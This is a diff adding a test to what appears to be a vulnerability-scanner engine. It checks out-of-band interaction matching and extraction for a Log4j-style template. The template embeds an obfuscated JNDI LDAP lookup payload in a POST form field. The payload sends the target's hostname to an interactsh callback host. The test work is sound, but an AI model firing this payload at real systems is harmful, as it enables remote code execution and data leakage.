@@ -243,4 +243,38 @@ tcp:
       resolver.close();
     }
   });
+
+  it('runs a log4j-style template: a lookup under the URL (any label depth), regex and kval on the interaction', async () => {
+    const t = template(`${head('oast-log4j')}variables:
+  a: '{{rand_int(111, 999)}}'
+  b: '{{rand_int(111, 999)}}'
+http:
+  - raw:
+      - |
+        POST /log4j/login HTTP/1.1
+        Host: {{Hostname}}
+        Content-Type: application/x-www-form-urlencoded
+
+        user=\${jndi:ldap://\${:-{{a}}}\${:-{{b}}}.\${hostName}.user.{{interactsh-url}}/x}&go=1
+    matchers-condition: and
+    matchers:
+      - type: word
+        part: interactsh_protocol
+        words: ["dns"]
+      - type: regex
+        part: interactsh_request
+        regex: ['\\d{6}\\.([a-zA-Z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
+    extractors:
+      - type: kval
+        kval: [interactsh_ip]
+      - type: regex
+        group: 1
+        part: interactsh_request
+        regex: ['\\d{6}\\.([a-zA-Z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
+`);
+    const out = await run(t);
+    expect(out.warnings).toEqual([]);
+    expect(out.results).toHaveLength(1);
+    expect(out.results[0].extractedResults).toEqual(['127.0.0.1', 'victim-host']);
+  });
 });
